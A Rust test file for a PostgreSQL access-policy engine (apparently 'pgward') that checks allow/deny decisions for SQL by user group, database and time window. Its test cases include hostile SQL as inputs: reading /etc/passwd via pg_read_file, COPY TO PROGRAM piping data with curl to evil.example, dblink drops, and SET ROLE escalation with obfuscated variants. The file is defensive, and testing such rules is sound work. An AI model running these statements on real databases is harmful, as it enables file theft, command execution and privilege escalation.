//! Table-driven tests of the policy engine, against the shipped `policies/example.toml` and
//! `policies/default.toml`.

use std::collections::HashMap;
use std::sync::Arc;

use chrono::{DateTime, TimeZone, Utc};

use super::*;

const EXAMPLE: &str = include_str!("../../../policies/example.toml");

/// `pg_proc` of a fresh PostgreSQL 15 database, as `functions::CATALOG_SQL` returns it
/// (`psql -At -F '\t'`; NULL is empty).
const PG15_PROC: &str = include_str!("testdata/pg15_proc.tsv");

fn pg15_catalog() -> super::functions::FunctionCatalog {
    super::functions::FunctionCatalog::from_tsv(PG15_PROC).expect("fixture parses")
}

/// The databases the tables below use, each with the PostgreSQL 15 catalog.
fn with_catalogs(p: Policy) -> Policy {
    for db in ["app", "db", "hr", "analytics", "other"] {
        p.set_function_catalog(db, pg15_catalog());
    }
    p
}

fn example() -> Policy {
    with_catalogs(Policy::from_toml("policies/example.toml", EXAMPLE).expect("example policy compiles"))
}

fn default_policy() -> Policy {
    with_catalogs(Policy::from_toml("policies/default.toml", DEFAULT_POLICY_TOML).expect("default policy compiles"))
}

fn id(user: &str, groups: &[&str]) -> Identity {
    Identity {
        user: user.into(),
        groups: groups.iter().map(|g| g.to_string()).collect(),
        jti: "t".into(),
        expires_at: i64::MAX,
        issued_at: 0,
    }
}

/// Tuesday 2025-06-10 12:00 UTC: outside the example's change window.
fn noon() -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2025, 6, 10, 12, 0, 0).unwrap()
}

/// Tuesday 2025-06-10 19:00 UTC: inside the change window.
fn evening() -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2025, 6, 10, 19, 0, 0).unwrap()
}

#[derive(Clone, Copy, Debug)]
enum P {
    Example,
    Default,
}

#[derive(Clone, Copy, Debug)]
enum T {
    Noon,
    Evening,
}

use Action::{Allow, Deny};
use P::{Default as Dflt, Example as Ex};
use T::{Evening, Noon};

/// (policy, groups, database, time, SQL, expected decision, expected rule)
type Case = (P, &'static [&'static str], &'static str, T, &'static str, Action, &'static str);

const A: &[&str] = &["analysts"];
const E: &[&str] = &["engineers"];
const DBA: &[&str] = &["dba"];
const AHR: &[&str] = &["analysts", "hr"];
const NONE: &[&str] = &[];
const ADM: &[&str] = &["pgward_admins"];

#[rustfmt::skip]
const CASES: &[Case] = &[
    // --- plain reads and writes ---
    (Ex, A, "app", Noon, "SELECT * FROM orders", Allow, "analysts-read"),
    (Ex, A, "app", Noon, "select id, total FROM Orders where id = 1", Allow, "analysts-read"),
    (Ex, A, "app", Noon, "  select * from orders ; -- trailing comment", Allow, "analysts-read"),
    (Ex, A, "app", Noon, "", Allow, "empty"),
    (Ex, A, "app", Noon, "BEGIN", Allow, "analysts-read"),
    (Ex, A, "app", Noon, "SET work_mem = '64MB'", Allow, "analysts-read"),
    (Ex, A, "app", Noon, "SHOW work_mem", Allow, "analysts-read"),
    (Ex, A, "app", Noon, "LISTEN jobs", Allow, "analysts-read"),
    (Ex, A, "app", Noon, "COPY orders TO STDOUT", Allow, "analysts-read"),
    (Ex, A, "app", Noon, "DELETE FROM orders WHERE id = 1", Deny, "default:analysts"),
    (Ex, A, "app", Noon, "insert into orders values (1)", Deny, "default:analysts"),
    (Ex, A, "app", Noon, "COPY orders FROM STDIN", Deny, "default:analysts"),
    // a schema rule covers functions, operators and types of the schema, not only tables
    // (functions of hr are covered too: the catalog-less functions here are denied earlier as
    // unknown to the catalog; tests/policy_e2e.rs calls one the catalog knows)
    (Ex, A, "app", Noon, "SELECT 1 OPERATOR(hr.+) 1", Deny, "hr-schema"),
    (Ex, A, "app", Noon, "SELECT 1 FROM orders WHERE id = ANY(SELECT 1) OR id OPERATOR(\"HR\".=) 2", Deny, "hr-schema"),
    (Ex, A, "app", Noon, "SELECT NULL::hr.salary_t", Deny, "hr-schema"),
    (Ex, A, "app", Noon, "SELECT id FROM orders WHERE note COLLATE hr.c = 'x'", Deny, "hr-schema"),
    (Ex, AHR, "app", Noon, "SELECT 1 OPERATOR(hr.+) 1", Allow, "analysts-read"),
    (Ex, A, "app", Noon, "SELECT CAST(1 AS int), extract(year from now()), 1 OPERATOR(pg_catalog.+) 1", Allow, "analysts-read"),
    (Ex, E, "app", Evening, "DROP FUNCTION hr.give_raise(int)", Deny, "hr-schema"),
    (Ex, E, "app", Evening, "DROP TYPE hr.salary_t", Deny, "hr-schema"),
    // built-ins that write are writes in any statement
    (Ex, A, "app", Noon, "SELECT setval('orders_id_seq', 1)", Deny, "default:analysts"),
    (Ex, A, "app", Noon, "SELECT nextval('orders_id_seq')", Deny, "default:analysts"),
    (Ex, A, "app", Noon, "SELECT lo_from_bytea(0, 'x')", Deny, "default:analysts"),
    (Ex, A, "app", Noon, "SELECT pg_catalog.lo_unlink(16385)", Deny, "default:analysts"),
    (Ex, A, "app", Noon, "SELECT * FROM orders o WHERE pg_notify('c', o.id::text) IS NULL", Deny, "default:analysts"),
    (Ex, A, "app", Noon, "SELECT pg_try_advisory_lock(42)", Deny, "default:analysts"),
    (Ex, A, "app", Noon, "VALUES (pg_advisory_xact_lock(1))", Deny, "default:analysts"),
    (Ex, A, "app", Noon, "SELECT currval('orders_id_seq'), lo_get(16385)", Allow, "analysts-read"),
    (Ex, E, "app", Noon, "SELECT setval('orders_id_seq', 1)", Allow, "engineers-dml"),
    (Ex, E, "app", Noon, "INSERT INTO orders VALUES (1)", Allow, "engineers-dml"),
    (Ex, E, "app", Noon, "UPDATE orders SET total = 0 WHERE id = 7", Allow, "engineers-dml"),
    (Ex, E, "analytics", Noon, "INSERT INTO orders VALUES (1)", Deny, "default:engineers"),
    (Ex, NONE, "app", Noon, "SELECT 1", Deny, "default"),
    // --- writes hidden in reads ---
    (Ex, A, "app", Noon, "WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM d", Deny, "default:analysts"),
    (Ex, A, "app", Noon, "SELECT * FROM orders FOR UPDATE", Deny, "default:analysts"),
    (Ex, A, "app", Noon, "select * from orders o join items i on i.o = o.id for share of o", Deny, "default:analysts"),
    (Ex, A, "app", Noon, "SELECT * INTO orders_copy FROM orders", Deny, "ddl-outside-window"),
    (Ex, A, "app", Evening, "SELECT * INTO orders_copy FROM orders", Deny, "default:analysts"),
    (Ex, A, "app", Noon, "EXPLAIN ANALYZE DELETE FROM orders WHERE id = 1", Deny, "default:analysts"),
    // --- UPDATE / DELETE without WHERE ---
    (Ex, A, "app", Noon, "UPDATE orders SET total = 0", Deny, "no-unbounded-writes"),
    (Ex, E, "app", Noon, "DELETE FROM orders", Deny, "no-unbounded-writes"),
    (Ex, E, "app", Noon, "DELETE FROM orders WHERE 1 = 1", Deny, "no-unbounded-writes"),
    (Ex, E, "app", Noon, "update orders set total = 0 where true or id = 3", Deny, "no-unbounded-writes"),
    (Ex, E, "app", Noon, "TRUNCATE orders", Deny, "no-unbounded-writes"),
    (Ex, E, "app", Noon, "WITH d AS (DELETE FROM orders RETURNING id) SELECT count(*) FROM d", Deny, "no-unbounded-writes"),
    (Ex, DBA, "app", Noon, "DELETE FROM orders", Allow, "default:dba"),
    // --- functions, wherever they hide ---
    (Ex, A, "app", Noon, "SELECT pg_read_file('/etc/passwd')", Deny, "no-dangerous-functions"),
    (Ex, A, "app", Noon, "SELECT PG_CATALOG.PG_READ_FILE('/etc/passwd')", Deny, "no-dangerous-functions"),
    (Ex, A, "app", Noon, "SELECT \"pg_read_file\"('/etc/passwd')", Deny, "no-dangerous-functions"),
    (Ex, A, "app", Noon, "SELECT/**/pg_read_file(/* x */'/etc/passwd')--", Deny, "no-dangerous-functions"),
    (Ex, A, "app", Noon, "SELECT * FROM pg_ls_dir('.') AS f", Deny, "no-dangerous-functions"),
    (Ex, A, "app", Noon, "SELECT id FROM orders WHERE id IN (SELECT length(dblink_exec('host=x', 'drop table t')))", Deny, "no-dangerous-functions"),
    (Ex, A, "app", Noon, "WITH x AS (SELECT lo_export(1, '/tmp/x')) SELECT * FROM x", Deny, "no-dangerous-functions"),
    (Ex, A, "app", Noon, "SELECT CASE WHEN true THEN pg_terminate_backend(42) END", Deny, "no-dangerous-functions"),
    // Unicode-escaped identifier: Postgres reads the name pg_read_file.
    (Ex, A, "app", Noon, "SELECT U&\"\\0070g_read_file\"('PG_VERSION')", Deny, "no-dangerous-functions"),
    (Ex, A, "app", Noon, "SELECT U&\"!0070g_read_file\" UESCAPE '!'('PG_VERSION')", Deny, "no-dangerous-functions"),
    (Ex, A, "app", Noon, "SELECT * FROM table_to_xml('hr.salaries', true, false, '')", Deny, "no-dangerous-functions"),
    (Ex, DBA, "app", Noon, "SELECT pg_terminate_backend(42)", Allow, "default:dba"),
    // --- COPY to/from the server ---
    (Ex, A, "app", Noon, "COPY orders TO PROGRAM 'curl -d @- evil.example'", Deny, "no-server-access"),
    (Ex, E, "app", Noon, "copy orders from '/var/lib/postgresql/x.csv'", Deny, "no-server-access"),
    (Ex, E, "app", Noon, "COPY (SELECT 1) TO PROGRAM 'id'", Deny, "no-server-access"),
    (Ex, DBA, "app", Noon, "COPY orders TO PROGRAM 'gzip > /backup/orders.gz'", Allow, "default:dba"),
    // --- tables and schemas ---
    (Ex, A, "app", Noon, "SELECT * FROM hr.employees", Deny, "hr-schema"),
    (Ex, A, "app", Noon, "SELECT * FROM \"HR\".\"EMPLOYEES\"", Deny, "hr-schema"),
    (Ex, A, "app", Noon, "SELECT * FROM orders o JOIN hr.employees e ON e.id = o.owner", Deny, "hr-schema"),
    (Ex, A, "app", Noon, "SELECT * FROM salaries", Deny, "salaries-table"),
    (Ex, A, "app", Noon, "SELECT (SELECT max(amount) FROM public.salaries)", Deny, "salaries-table"),
    (Ex, A, "app", Noon, "SELECT 1, 2 UNION ALL TABLE hr.employees", Deny, "hr-schema"),
    (Ex, AHR, "app", Noon, "SELECT * FROM hr.employees", Allow, "analysts-read"),
    // --- multi-statement strings ---
    (Ex, A, "app", Noon, "SELECT 1; SELECT 2", Deny, "analysts-single-statement"),
    (Ex, E, "app", Noon, "SELECT 1; DROP TABLE orders", Deny, "ddl-outside-window"),
    (Ex, E, "app", Noon, "INSERT INTO orders VALUES (1); insert into orders values (2)", Allow, "engineers-dml"),
    // Postgres reads END as an alias and runs the DROP.
    (Ex, DBA, "app", Noon, "SELECT 1 END; DROP TABLE orders", Deny, "ddl-outside-window"),
    (Ex, E, "app", Noon, "SELECT 1 END; DROP TABLE orders", Deny, "ddl-outside-window"),
    (Ex, A, "app", Noon, "SELECT 1 END", Allow, "analysts-read"),
    // The tokenizer would swallow the lines after COPY … FROM STDIN; as inline data.
    (Ex, E, "app", Noon, "COPY orders FROM STDIN;\nDROP TABLE orders", Deny, "ddl-outside-window"),
    // --- DDL and time windows ---
    (Ex, E, "app", Noon, "CREATE TABLE t (id int)", Deny, "ddl-outside-window"),
    (Ex, E, "app", Evening, "CREATE TABLE t (id int)", Allow, "engineers-ddl-in-window"),
    (Ex, E, "app", Evening, "GRANT SELECT ON orders TO PUBLIC", Deny, "default:engineers"),
    (Ex, DBA, "app", Noon, "DROP TABLE orders", Deny, "ddl-outside-window"),
    (Ex, DBA, "app", Evening, "drop table orders", Allow, "default:dba"),
    // --- procedural code, prepared statements ---
    (Ex, A, "app", Noon, "DO $$BEGIN EXECUTE 'DROP TABLE orders'; END$$", Deny, "default:analysts"),
    // Not in the catalog: in every function class, so the dynamic-SQL rule denies it first.
    (Ex, E, "app", Noon, "CALL refresh_all()", Deny, "no-dangerous-functions"),
    (Ex, A, "app", Noon, "PREPARE p AS DELETE FROM orders WHERE id = $1", Deny, "default:analysts"),
    (Ex, A, "app", Noon, "PREPARE q AS SELECT * FROM orders WHERE id = $1", Allow, "analysts-read"),
    // A prepared statement pgward did not see prepared (the session resolves the ones it saw):
    // as unchecked as an unparsable text.
    (Ex, A, "app", Noon, "EXECUTE q(1)", Deny, "unparsable:analysts"),
    (Ex, DBA, "app", Noon, "EXECUTE q(1)", Allow, "default:dba"),
    (Ex, E, "app", Noon, "PREPARE r AS SELECT pg_read_file($1)", Deny, "no-dangerous-functions"),
    // --- identity changes: denied to everyone, in every form ---
    (Ex, A, "app", Noon, "SET ROLE postgres", Deny, "builtin:identity-change"),
    (Ex, A, "app", Noon, "set local role dba", Deny, "builtin:identity-change"),
    (Ex, A, "app", Noon, "RESET ROLE", Deny, "builtin:identity-change"),
    (Ex, A, "app", Noon, "SET role TO 'dba'", Deny, "builtin:identity-change"),
    (Ex, A, "app", Noon, "SET SESSION AUTHORIZATION 'postgres'", Deny, "builtin:identity-change"),
    (Ex, A, "app", Noon, "RESET SESSION AUTHORIZATION", Deny, "builtin:identity-change"),
    (Ex, A, "app", Noon, "SELECT set_config('role', 'dba', false)", Deny, "builtin:identity-change"),
    (Ex, A, "app", Noon, "select pg_catalog.SET_CONFIG('ROLE', 'dba', false)", Deny, "builtin:identity-change"),
    (Ex, A, "app", Noon, "SELECT set_config(new_value => 'dba', setting_name => 'role', is_local => false)", Deny, "builtin:identity-change"),
    (Ex, A, "app", Noon, "SELECT set_config('work_mem', '64MB', false)", Allow, "analysts-read"),
    (Ex, A, "app", Noon, "SET SESSION ROLE dba", Deny, "builtin:identity-change"),
    (Ex, A, "app", Noon, "SET \"ROLE\" = 'dba'", Deny, "builtin:identity-change"),
    (Ex, A, "app", Noon, "SELECT set_config(name, 'dba', false) FROM (VALUES ('role')) v(name)", Deny, "builtin:identity-change"),
    (Ex, E, "app", Noon, "UPDATE pg_settings SET setting = 'dba' WHERE name = 'role'", Deny, "builtin:identity-change"),
    (Ex, DBA, "app", Noon, "SET ROLE postgres", Deny, "builtin:identity-change"),
    (Ex, DBA, "app", Noon, "DISCARD ALL", Deny, "builtin:identity-change"),
    (Ex, DBA, "app", Evening, "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ RESET ROLE $$", Deny, "builtin:identity-change"),
    (Ex, DBA, "app", Noon, "DO $$BEGIN EXECUTE 'set role postgres'; END$$", Deny, "builtin:identity-change"),
    (Ex, E, "app", Noon, "SELECT 1; SET ROLE dba", Deny, "builtin:identity-change"),
    (Ex, A, "app", Noon, "SET standard_conforming_strings = off", Deny, "builtin:protected-setting"),
    (Ex, A, "app", Noon, "SET standard_conforming_strings = on", Allow, "analysts-read"),
    (Ex, DBA, "app", Evening, "ALTER ROLE bob SET standard_conforming_strings = off", Deny, "builtin:protected-setting"),
    (Ex, DBA, "app", Evening, "ALTER DATABASE app SET standard_conforming_strings TO off", Deny, "builtin:protected-setting"),
    (Ex, A, "app", Noon, "/* hi */ SeT /**/ RoLe -- x\n postgres", Deny, "builtin:identity-change"),
    (Ex, A, "app", Noon, "SET search_path TO hr, public", Deny, "analysts-no-search-path"),
    (Ex, A, "app", Noon, "SET client_encoding = 'SJIS'", Deny, "builtin:protected-setting"),
    (Ex, A, "app", Noon, "SET NAMES 'big5'", Deny, "builtin:protected-setting"),
    (Ex, A, "app", Noon, "SET client_encoding TO 'UTF8'", Allow, "analysts-read"),
    // --- unparsable statements ---
    (Ex, A, "app", Noon, "CHECKPOINT NOW", Deny, "unparsable:analysts"),
    (Ex, DBA, "app", Noon, "CHECKPOINT NOW", Allow, "default:dba"),
    (Ex, DBA, "app", Noon, "ALTER SYSTEM SET standard_conforming_strings = off", Deny, "builtin:protected-setting"),
    // --- the default policy ---
    (Dflt, NONE, "app", Noon, "DROP TABLE orders", Allow, "default"),
    (Dflt, A, "app", Noon, "DELETE FROM orders", Allow, "default"),
    (Dflt, A, "app", Noon, "COPY orders TO PROGRAM 'id'", Deny, "no-server-programs"),
    (Dflt, ADM, "app", Noon, "COPY orders TO PROGRAM 'id'", Allow, "default:pgward_admins"),
    (Dflt, A, "app", Noon, "SELECT pg_terminate_backend(pid) FROM pg_stat_activity", Deny, "no-server-functions"),
    (Dflt, A, "app", Noon, "SELECT * FROM dblink('dbname=app', 'select 1') AS t(x int)", Deny, "no-server-functions"),
    (Dflt, A, "app", Noon, "DO $$BEGIN PERFORM pg_read_file('/etc/passwd'); END$$", Deny, "no-server-functions"),
    (Dflt, A, "app", Noon, "SET ROLE postgres", Deny, "builtin:identity-change"),
    (Dflt, A, "app", Noon, "CHECKPOINT NOW", Deny, "unparsable"),
    (Dflt, ADM, "app", Noon, "CHECKPOINT NOW", Allow, "default:pgward_admins"),
    (Dflt, A, "app", Noon, "EXECUTE q", Deny, "unparsable"),
    (Dflt, ADM, "app", Noon, "EXECUTE q", Allow, "default:pgward_admins"),
];

#[test]
fn decision_table() {
    let ex = example();
    let df = default_policy();
    assert!(CASES.len() >= 40);
    let mut failures = Vec::new();
    for (i, (p, groups, db, t, sql, want, rule)) in CASES.iter().enumerate() {
        let policy = match p {
            Ex => &ex,
            Dflt => &df,
        };
        let now = match t {
            Noon => noon(),
            Evening => evening(),
        };
        let v = policy.decide(&id("alice", groups), db, sql, now);
        if v.decision != *want || v.rule != *rule {
            failures.push(format!(
                "case {i}: {p:?} {groups:?} {db} {t:?} {sql:?}: want {want} by {rule:?}, got {} by {:?} ({}); classes {:?}",
                v.decision, v.rule, v.reason, v.statements.iter().map(|s| (s.info.classes.iter().collect::<Vec<_>>(), s.info.modifiers.iter().collect::<Vec<_>>(), s.info.functions.iter().map(|f| f.to_string()).collect::<Vec<_>>())).collect::<Vec<_>>()
            ));
        }
        // Cached: the same answer again (memo hit).
        let again = policy.decide(&id("alice", groups), db, sql, now);
        assert_eq!((again.decision, &again.rule), (v.decision, &v.rule), "case {i} changed on the second call");
    }
    assert!(failures.is_empty(), "{} of {} cases failed:\n{}", failures.len(), CASES.len(), failures.join("\n"));
}

/// (SQL, primary class, modifiers that must be present)
#[rustfmt::skip]
const CLASSES: &[(&str, StatementClass, &[Modifier])] = &[
    ("SELECT 1", StatementClass::Read, &[]),
    ("VALUES (1)", StatementClass::Read, &[]),
    ("TABLE orders", StatementClass::Read, &[]),
    ("SELECT * FROM t FOR UPDATE", StatementClass::Write, &[Modifier::ForUpdate]),
    ("WITH x AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM x", StatementClass::Write, &[Modifier::CteWrite, Modifier::NoWhere]),
    ("INSERT INTO t SELECT * FROM u", StatementClass::Write, &[]),
    ("MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN DELETE", StatementClass::Write, &[]),
    ("LOCK TABLE t", StatementClass::Write, &[]),
    ("NOTIFY ch, 'x'", StatementClass::Write, &[]),
    ("REFRESH MATERIALIZED VIEW m", StatementClass::Write, &[]),
    ("CREATE TABLE t AS SELECT 1", StatementClass::Ddl, &[]),
    ("CREATE INDEX ON t (a)", StatementClass::Ddl, &[]),
    ("ALTER TABLE t ADD COLUMN b int", StatementClass::Ddl, &[]),
    ("DROP SCHEMA hr CASCADE", StatementClass::Ddl, &[]),
    ("COMMENT ON TABLE t IS 'x'", StatementClass::Ddl, &[]),
    ("CREATE EXTENSION dblink", StatementClass::Ddl, &[]),
    ("GRANT SELECT ON t TO bob", StatementClass::Dcl, &[]),
    ("REVOKE ALL ON t FROM bob", StatementClass::Dcl, &[]),
    ("CREATE ROLE bob", StatementClass::Dcl, &[]),
    ("ALTER ROLE bob SET search_path = hr", StatementClass::Dcl, &[Modifier::SearchPath]),
    ("DROP ROLE bob", StatementClass::Dcl, &[]),
    ("BEGIN", StatementClass::Transaction, &[]),
    ("START TRANSACTION READ ONLY", StatementClass::Transaction, &[]),
    ("COMMIT", StatementClass::Transaction, &[]),
    ("SAVEPOINT a", StatementClass::Transaction, &[]),
    ("SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", StatementClass::Transaction, &[]),
    ("SET TIME ZONE 'UTC'", StatementClass::Session, &[]),
    ("RESET ALL", StatementClass::Session, &[]),
    ("DISCARD PLANS", StatementClass::Session, &[]),
    ("DEALLOCATE p", StatementClass::Session, &[]),
    ("VACUUM t", StatementClass::Admin, &[]),
    ("ANALYZE t", StatementClass::Admin, &[]),
    ("COPY t TO '/tmp/x'", StatementClass::Admin, &[Modifier::CopyFile]),
    ("COPY t FROM PROGRAM 'id'", StatementClass::Admin, &[Modifier::CopyProgram]),
    ("CALL p()", StatementClass::Procedural, &[]),
    ("DO $$ BEGIN NULL; END $$", StatementClass::Procedural, &[]),
    ("DO LANGUAGE plpgsql $$ BEGIN NULL; END $$", StatementClass::Procedural, &[]),
    ("EXECUTE p", StatementClass::Write, &[Modifier::UnknownPrepared]),
    ("CHECKPOINT NOW", StatementClass::Admin, &[Modifier::Unparsable]),
    ("FROBNICATE everything", StatementClass::Unknown, &[Modifier::Unparsable]),
];

#[test]
fn classification_table() {
    let mut failures = Vec::new();
    for (sql, class, mods) in CLASSES {
        let infos = analyze_sql(sql);
        if infos.len() != 1 {
            failures.push(format!("{sql:?}: {} statements", infos.len()));
            continue;
        }
        let i = &infos[0];
        if i.class() != *class || !mods.iter().all(|m| i.modifiers.contains(*m)) {
            failures.push(format!(
                "{sql:?}: want {class} {mods:?}, got {} {:?} (classes {:?})",
                i.class(),
                i.modifiers.iter().collect::<Vec<_>>(),
                i.classes.iter().collect::<Vec<_>>()
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn tables_functions_and_statement_split() {
    let infos = analyze_sql(
        "SELECT a.x, lower(b.y) FROM app.a JOIN b ON true; /* ; */ INSERT INTO hr.salaries SELECT * FROM generate_series(1, 3)",
    );
    assert_eq!(infos.len(), 2);
    let names = |v: &[QName]| v.iter().map(|q| q.to_string()).collect::<Vec<_>>();
    assert_eq!(names(&infos[0].tables), vec!["b".to_string(), "app.a".to_string()]);
    assert_eq!(names(&infos[0].functions), vec!["lower".to_string()]);
    assert_eq!(names(&infos[1].tables), vec!["hr.salaries".to_string()]);
    assert_eq!(names(&infos[1].functions), vec!["generate_series".to_string()]);
    assert!(infos.iter().all(|i| i.modifiers.contains(Modifier::MultiStatement)));
    assert_eq!(infos[1].schemas, vec!["hr".to_string()]);
    // Only comments and semicolons: no statement.
    assert!(analyze_sql(" -- nothing\n ; /* x */ ;").is_empty());
}

#[test]
fn execute_uses_the_prepared_statement_when_the_session_knows_it() {
    let p = example();
    let alice = id("alice", A);
    let prepared: HashMap<&str, &str> = [
        ("q", "PREPARE q AS SELECT * FROM orders WHERE id = $1"),
        ("w", "DELETE FROM orders WHERE id = $1"),
        ("Mixed", "SELECT 1"),
    ]
    .into_iter()
    .collect();
    let lookup = |n: &str| prepared.get(n).map(|s| s.to_string()).into_iter().collect::<Vec<_>>();
    let v = p.decide_with_prepared(&alice, "app", "EXECUTE q(1)", noon(), &lookup);
    assert_eq!((v.decision, v.rule.as_str()), (Allow, "analysts-read"));
    assert_eq!(v.classes, vec![StatementClass::Read]);
    let v = p.decide_with_prepared(&alice, "app", "EXECUTE w(1)", noon(), &lookup);
    assert_eq!((v.decision, v.rule.as_str()), (Deny, "default:analysts"));
    // Parameters are checked too.
    let v = p.decide_with_prepared(&alice, "app", "EXECUTE q(length(pg_read_file('/etc/passwd')))", noon(), &lookup);
    assert_eq!((v.decision, v.rule.as_str()), (Deny, "no-dangerous-functions"));
    // Names fold like Postgres's: unquoted lowercase, quoted exact.
    let v = p.decide_with_prepared(&alice, "app", "EXECUTE \"Mixed\"", noon(), &lookup);
    assert_eq!(v.decision, Allow);
    let v = p.decide_with_prepared(&alice, "app", "EXECUTE Mixed", noon(), &lookup);
    assert_eq!((v.decision, v.rule.as_str()), (Deny, "unparsable:analysts"));
    // Unknown name: what it runs is unknown, decided like an unparsable text (and a write).
    let v = p.decide_with_prepared(&alice, "app", "EXECUTE nope", noon(), &lookup);
    assert_eq!((v.decision, v.rule.as_str()), (Deny, "unparsable:analysts"));
    assert!(v.statements[0].info.modifiers.contains(Modifier::UnknownPrepared));
    // A name with several possible texts (a PREPARE on its way): allowed only if each is.
    let both = |_: &str| vec!["PREPARE q AS SELECT 1".to_string(), "DELETE FROM orders WHERE id = $1".to_string()];
    let v = p.decide_with_prepared(&alice, "app", "EXECUTE q", noon(), &both);
    assert_eq!((v.decision, v.rule.as_str()), (Deny, "default:analysts"));
    let reads = |_: &str| vec!["PREPARE q AS SELECT 1".to_string(), "SELECT 2".to_string()];
    let v = p.decide_with_prepared(&alice, "app", "EXECUTE q", noon(), &reads);
    assert_eq!((v.decision, v.rule.as_str()), (Allow, "analysts-read"));
}

#[test]
fn a_statement_around_execute_keeps_its_own_classes() {
    let p = example();
    let prepared: HashMap<&str, &str> = [("q", "SELECT 1")].into_iter().collect();
    let lookup = |n: &str| prepared.get(n).map(|s| s.to_string()).into_iter().collect::<Vec<_>>();
    // CREATE TABLE … AS EXECUTE creates and fills a table, whatever the prepared text reads:
    // DDL for analysts, and outside the change window for everyone.
    for (who, groups) in [("alice", A), ("erin", E), ("dora", DBA)] {
        for sql in ["CREATE TABLE evil AS EXECUTE q", "CREATE TEMP TABLE evil AS EXECUTE q WITH NO DATA"] {
            let v = p.decide_with_prepared(&id(who, groups), "app", sql, noon(), &lookup);
            assert_eq!(v.decision, Deny, "{who}: {sql}: {v:?}");
            let info = &v.statements[0].info;
            assert!(info.classes.contains(StatementClass::Ddl) && info.classes.contains(StatementClass::Write), "{sql}: {info:?}");
            assert_eq!(info.commands[0], "create table", "{sql}: {info:?}");
        }
    }
    // Decided as the same statement with the prepared text written out, at any time.
    for (who, groups) in [("alice", A), ("erin", E), ("dora", DBA)] {
        for at in [noon(), evening()] {
            let v = p.decide_with_prepared(&id(who, groups), "app", "CREATE TABLE t2 AS EXECUTE q", at, &lookup);
            let plain = p.decide(&id(who, groups), "app", "CREATE TABLE t2 AS SELECT 1", at);
            assert_eq!((v.decision, &v.rule), (plain.decision, &plain.rule), "{who} at {at}");
        }
    }
    // EXPLAIN adds no class of its own: EXPLAIN EXECUTE of a read is a read.
    let v = p.decide_with_prepared(&id("alice", A), "app", "EXPLAIN ANALYZE EXECUTE q", noon(), &lookup);
    assert_eq!((v.decision, v.rule.as_str()), (Allow, "analysts-read"));
}

#[test]
fn roles_and_groups() {
    let p = example();
    assert_eq!(p.role_for(&id("a", &["analysts"])).as_deref(), Some("analyst_ro"));
    // First [[group]] in policy order wins, whatever the token's order.
    assert_eq!(p.role_for(&id("a", &["dba", "analysts"])).as_deref(), Some("analyst_ro"));
    assert_eq!(p.role_for(&id("a", &["hr", "engineers"])).as_deref(), Some("app_rw"));
    assert_eq!(p.role_for(&id("a", &["hr"])), None);
    assert_eq!(p.role_for(&id("a", &[])), None);
    assert_eq!(
        p.role_for(&id("a", &["dba"])).map(|r| crate::pool::set_role_sql(&r)).as_deref(),
        Some("SET ROLE \"dba\"")
    );
    // Default action with several groups: deny wins.
    let v = p.decide(&id("a", &["dba", "analysts"]), "app", "DELETE FROM orders WHERE id = 1", noon());
    assert_eq!((v.decision, v.rule.as_str()), (Deny, "default:analysts"));
}

#[test]
fn fastpath_calls() {
    let p = example();
    let v = p.decide_function_call(&id("a", E), "app", 1, noon());
    assert_eq!((v.decision, v.rule.as_str()), (Deny, "no-server-access"));
    let v = p.decide_function_call(&id("a", DBA), "app", 1, noon());
    assert_eq!((v.decision, v.rule.as_str()), (Allow, "default:dba"));
    let v = Policy::builtin_only().decide_function_call(&id("a", NONE), "app", 1, noon());
    assert_eq!(v.decision, Allow);
    // set_config by OID: its arguments could name any setting; nobody may call it this way.
    for who in [id("a", NONE), id("a", DBA)] {
        let v = p.decide_function_call(&who, "app", SET_CONFIG_OID, noon());
        assert_eq!((v.decision, v.rule.as_str()), (Deny, "builtin:identity-change"));
    }
}

#[test]
fn builtin_only_policy_allows_all_but_identity_changes() {
    let p = Policy::builtin_only();
    let a = id("a", NONE);
    let v = p.decide(&a, "app", "DROP TABLE x", noon());
    assert_eq!((v.decision, v.rule.as_str()), (Allow, "default"));
    let v = p.decide(&a, "app", "CHECKPOINT NOW", noon());
    assert_eq!((v.decision, v.rule.as_str()), (Allow, "default"));
    assert!(v.unparsable);
    let v = p.decide(&a, "app", "SET SESSION AUTHORIZATION DEFAULT", noon());
    assert_eq!((v.decision, v.rule.as_str()), (Deny, "builtin:identity-change"));
}

#[test]
fn verdict_shape_for_multi_statement_strings() {
    let p = example();
    let v = p.decide(&id("a", E), "app", "INSERT INTO orders VALUES (1); SELECT 1; DROP TABLE orders", noon());
    assert_eq!(v.decision, Deny);
    assert_eq!(v.rule, "ddl-outside-window");
    assert_eq!(v.statement_count, 3);
    assert_eq!(v.classes, vec![StatementClass::Write, StatementClass::Read, StatementClass::Ddl]);
    assert_eq!(v.statements[0].decision, Allow);
    assert_eq!(v.statements[2].decision, Deny);
    assert!(!v.unparsable);
    let d = v.to_decision();
    assert!(matches!(d, Decision::Deny { ref rule, .. } if rule == "ddl-outside-window"));
}

#[test]
fn merging_files_and_errors() {
    let base = r#"
        [defaults]
        action = "allow"
        [[group]]
        name = "a"
        role = "r1"
        [[rule]]
        name = "no-drop"
        action = "deny"
        commands = ["drop *"]
    "#;
    let overlay = r#"
        [[group]]
        name = "a"
        default = "deny"
        [[rule]]
        name = "a-reads"
        action = "allow"
        groups = ["a"]
        classes = ["read"]
    "#;
    let p =
        Policy::from_sources(&[("base.toml".into(), base.into()), ("overlay.toml".into(), overlay.into())]).unwrap();
    let who = id("u", &["a"]);
    assert_eq!(p.role_for(&who).as_deref(), Some("r1"));
    assert_eq!(p.decide(&who, "db", "SELECT 1", noon()).rule, "a-reads");
    assert_eq!(p.decide(&who, "db", "DROP TABLE x", noon()).rule, "no-drop");
    assert_eq!(p.decide(&who, "db", "INSERT INTO x VALUES (1)", noon()).rule, "default:a");
    assert_eq!(p.rule_names().collect::<Vec<_>>(), vec!["no-drop", "a-reads"]);

    let err = |files: &[(&str, &str)]| {
        Policy::from_sources(&files.iter().map(|(n, t)| (PathBuf::from(n), t.to_string())).collect::<Vec<_>>())
            .unwrap_err()
            .to_string()
    };
